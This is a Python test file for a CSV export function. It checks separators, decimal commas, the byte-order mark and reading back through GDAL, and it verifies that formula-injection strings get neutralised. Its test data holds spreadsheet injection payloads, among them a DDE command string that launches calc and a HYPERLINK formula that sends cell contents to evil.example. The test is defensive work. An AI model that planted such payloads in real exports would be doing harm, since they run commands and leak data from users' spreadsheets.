"""A table for a spreadsheet: read back by Python and by GDAL as it was, and never calculated."""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import pytest
from osgeo import ogr
from repere.services.csv_export import format_csv


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def test_texts_numbers_and_nothing():
    rows = [["Voirie; rue", 2.5, 3, None, True, math.nan], ['dit "ici"\nlà', -1.25, -3, "", "é", math.inf]]
    assert read(format_csv(["a", "b"], rows)) == [
        ["a", "b"],
        ["Voirie; rue", "2,5", "3", "", "True", ""],
        ['dit "ici"\nlà', "-1,25", "-3", "", "é", ""],
    ]
    assert read(format_csv(["a"], [[0.5]], decimal="."))[1] == ["0.5"]
    assert format_csv(["a"], []) == "\ufeffa\r\n"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", " =1", "\u00a0=1", "\ufeff=1", "\t=1", "\r=1", "\n=1", "＝1",
        "=HYPERLINK(\"http://evil.example/?\"&A1;\"x\")", "\x00=1",
    ],
)  # fmt: skip
def test_no_text_is_calculated(text: str):
    (cell,) = read(format_csv(["a"], [[text]]))[1]
    assert cell.startswith("'")
    assert format_csv([text], []).removeprefix("\ufeff").lstrip('"').startswith("'")


def test_gdal_reads_what_was_written(tmp_path: Path):
    path = tmp_path / "t.csv"
    path.write_bytes(format_csv(["nom", "jours"], [['Été\n; "x"', 2.5]]).encode("utf-8"))
    file = ogr.Open(str(path))
    (row,) = file.GetLayer(0)
    assert [row.GetField("nom"), row.GetField("jours")] == ['Été\n; "x"', "2,5"]
